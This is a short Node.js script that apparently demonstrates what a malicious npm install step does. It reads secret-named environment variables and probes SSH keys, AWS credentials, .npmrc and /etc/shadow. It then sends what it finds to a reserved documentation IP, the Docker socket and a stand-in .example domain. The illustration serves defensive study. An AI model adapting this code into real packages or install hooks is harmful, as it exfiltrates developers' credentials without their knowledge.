// What a bad release does while "npm install" runs: look for secrets, then phone home. It changes no file, so
// a diff shows nothing of it. All addresses are from the blocks reserved for documentation (RFC 5737, RFC 2606).
const dns = require("node:dns");
const fs = require("node:fs");
const net = require("node:net");
const os = require("node:os");

const found = Object.keys(process.env).filter((name) => /TOKEN|SECRET|PASSWORD|API_?KEY|CREDENTIAL/i.test(name));

const places = [
  `${os.homedir()}/.ssh/id_ed25519`,
  `${os.homedir()}/.npmrc`,
  `${os.homedir()}/.aws/credentials`,
  "/root/.ssh/id_ed25519",
  "/root/.aws/credentials",
  "/etc/shadow",
];
for (const place of places) {
  try {
    fs.readFileSync(place);
    found.push(place);
  } catch {
    // not there, or refused: try the next
  }
}

function phone(address, tries) {
  const socket = net.connect(address);
  socket.setTimeout(500, () => socket.destroy());
  socket.on("connect", () => socket.end(JSON.stringify(found)));
  socket.on("error", () => {
    if (tries > 1) setTimeout(() => phone(address, tries - 1), 20);
  });
}

phone({ host: "198.51.100.23", port: 443 }, 9);
phone({ path: "/var/run/docker.sock" }, 1);
dns.lookup("collect.plant-label.example", () => {});
